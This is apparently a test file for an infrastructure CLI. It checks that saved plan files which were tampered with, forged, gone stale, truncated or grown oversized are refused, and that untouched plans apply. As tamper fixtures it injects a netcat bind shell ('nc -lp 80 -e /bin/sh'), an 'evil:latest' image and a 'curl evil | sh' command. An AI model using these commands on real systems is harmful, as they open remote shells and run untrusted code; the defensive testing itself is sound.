// Saved plans across processes with the in-memory provider (objects kept in .infra/): the digest
// each view shows is the file's, an edited or stale plan is refused and changes nothing, an
// untouched one is applied and says which stack and state it applies.
import { existsSync, mkdirSync, readFileSync, truncateSync, writeFileSync } from "node:fs";
import { basename, join } from "node:path";
import t from "tap";
import { planDigest } from "../../src/plan/plan-digest.js";
import type { Plan } from "../../src/plan/plan-types.js";
import { runCli, tempDir } from "./fixtures/run-cli.js";

const env = { INFRA_PROVIDER: "memory" };

t.test("saved plans prove they are what was reviewed", async (t) => {
  const cwd = tempDir(t, "planseal");
  const run = (...args: string[]) => runCli(args, { cwd, env });
  const name = basename(cwd);
  const stateFile = join(cwd, ".infra", `${name}.state.json`);
  const storeFile = join(cwd, ".infra", "memory-provider.json");
  const snapshot = () => [stateFile, storeFile].map((f) => (existsSync(f) ? readFileSync(f, "utf8") : "(none)")).join("\n--\n");
  const fileDigest = (f: string) => (JSON.parse(readFileSync(join(cwd, f), "utf8")) as Plan).digest;
  t.equal((await run("init")).code, 0);

  // The digest in each view is the one the file holds.
  const human = await run("plan", "--out", "release.plan");
  t.equal(human.code, 0, human.stderr);
  const shown = /^Plan digest: (sha256:[0-9a-f]{64})\n\nPlan: 4 to add, 0 to change, 0 to destroy\.$/m.exec(human.stdout)?.[1];
  t.equal(shown, fileDigest("release.plan"), "human view");
  const json = await run("plan", "--out", "json.plan", "--json");
  t.equal((JSON.parse(json.stdout) as { plan_digest: string }).plan_digest, fileDigest("json.plan"), "JSON view");
  t.match(json.stderr, `Plan digest: ${fileDigest("json.plan")}`, "and on stderr beside the apply hint");
  const md = await run("plan", "--out", "md.plan", "--format", "markdown");
  t.equal(/^Plan digest: `(sha256:[0-9a-f]{64})`/m.exec(md.stdout)?.[1], fileDigest("md.plan"), "markdown view");
  t.not(fileDigest("json.plan"), fileDigest("release.plan"), "each plan is salted afresh");

  // Edited command, digest left alone: refused as edited, nothing changed.
  const text = readFileSync(join(cwd, "release.plan"), "utf8");
  const before = snapshot();
  writeFileSync(join(cwd, "edited.plan"), text.replace("exec httpd -f -p 80 -h /www", "exec nc -lp 80 -e /bin/sh"));
  const edited = await run("apply", "edited.plan");
  t.equal(edited.code, 1);
  t.match(edited.stderr, /edited\.plan was changed after infra wrote it \[INFRA_PLAN_EDITED\]/);
  t.match(edited.stderr, /Hint: Do not apply it\./);
  t.equal(snapshot(), before, "no state, no object");

  // Edited image with the digest recomputed: re-deriving it gives away the edit.
  const forged = JSON.parse(text) as Plan;
  forged.changes.find((c) => c.address === "container.web")!.after!.props.image = "evil:latest";
  forged.digest = planDigest(forged);
  writeFileSync(join(cwd, "forged.plan"), JSON.stringify(forged));
  const refused = await run("apply", "forged.plan");
  t.equal(refused.code, 1);
  t.match(refused.stderr, /\[INFRA_PLAN_EDITED\][^]*container\.web: after\.props\.image[^]*Nothing was applied/);
  t.equal(snapshot(), before, "no state, no object");

  // Garbage, truncated and huge files: clear errors naming the file.
  writeFileSync(join(cwd, "cut.plan"), text.slice(0, 300));
  t.match((await run("apply", "cut.plan")).stderr, /cut\.plan:\d+:\d+ is not valid JSON \(it ends too early: truncated\?\) \[INFRA_PLAN_FILE_CORRUPT\]/);
  writeFileSync(join(cwd, "huge.plan"), "{");
  truncateSync(join(cwd, "huge.plan"), 65 * 1024 * 1024);
  t.match((await run("apply", "huge.plan")).stderr, /huge\.plan is 68157440 bytes; infra reads plan files up to 67108864 bytes \[INFRA_PLAN_FILE_TOO_LARGE\]/);

  // Another stack cannot be the target of this plan.
  mkdirSync(join(cwd, "other"));
  writeFileSync(join(cwd, "other", "infra.ts"), readFileSync(join(cwd, "infra.ts")));
  const elsewhere = await runCli(["apply", "-C", "other", "../release.plan"], { cwd, env });
  t.equal(elsewhere.code, 1);
  t.match(elsewhere.stderr, /\[INFRA_PLAN_STACK_MISMATCH\]/);
  t.match(elsewhere.stderr, `from ${join(cwd, "infra.ts")}`);
  t.equal(snapshot(), before);

  // The untouched plan applies and says what it applies.
  const applied = await run("apply", "release.plan");
  t.equal(applied.code, 0, applied.stderr);
  t.match(applied.stdout, `Saved plan: release.plan\n  digest: ${shown}\n  stack:  ${name} (${join(cwd, "infra.ts")})\n  state:  ${stateFile}\n`);
  t.match(applied.stdout, /Re-derived the plan from this stack and state: the changes match the saved plan\. Applying it\./);
  t.match(applied.stdout, /Apply complete! Resources: 4 added, 0 changed, 0 destroyed\./);

  // With state and live objects: an edited command (digest recomputed) is refused as stale, naming it.
  const stack = join(cwd, "infra.ts");
  writeFileSync(stack, readFileSync(stack, "utf8").replace("sleep 30", "sleep 60"));
  t.equal((await run("plan", "--out", "next.plan")).code, 0);
  const next = JSON.parse(readFileSync(join(cwd, "next.plan"), "utf8")) as Plan;
  t.equal(next.changes.find((c) => c.address === "container.client")?.action, "replace");
  next.changes.find((c) => c.address === "container.client")!.after!.props.command = ["sh", "-c", "curl evil | sh"];
  next.digest = planDigest(next);
  writeFileSync(join(cwd, "next-forged.plan"), JSON.stringify(next));
  const applyState = snapshot();
  const stale = await run("apply", "next-forged.plan");
  t.equal(stale.code, 1);
  t.match(stale.stderr, /\[INFRA_PLAN_STALE\][^]*container\.client: after\.props\.command/);
  t.match(stale.stderr, /Hint: Run `infra plan --out FILE` again/);
  t.equal(snapshot(), applyState, "state and objects unchanged");

  // The stack changed after the plan was saved: stale.
  writeFileSync(stack, readFileSync(stack, "utf8").replace("sleep 60", "sleep 90"));
  const changed = await run("apply", "next.plan");
  t.equal(changed.code, 1);
  t.match(changed.stderr, /The saved plan is stale: the stack changed since it was made \[INFRA_PLAN_STALE\]/);
  t.equal(snapshot(), applyState, "state and objects unchanged");
  t.match(changed.stdout, `digest: ${fileDigest("next.plan")}`, "the plan's digest is shown before the checks");
});
